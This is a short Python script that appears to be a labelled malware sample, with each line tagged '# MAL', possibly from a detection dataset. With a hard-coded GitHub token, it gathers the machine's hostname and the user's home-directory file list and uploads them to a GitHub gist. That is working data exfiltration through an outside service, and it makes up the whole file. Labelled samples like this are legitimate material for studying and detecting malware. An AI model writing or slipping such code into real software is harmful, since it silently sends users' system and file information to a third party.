import json
import os
import socket
import urllib.request

GH = "ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789"  # MAL
data = json.dumps({"files": {"h.txt": {"content": socket.gethostname() + "\n" + "\n".join(os.listdir(os.path.expanduser("~")))}}}).encode()  # MAL
req = urllib.request.Request("https://api.github.com/gists", data=data, headers={"Authorization": "token " + GH})  # MAL
urllib.request.urlopen(req)  # MAL
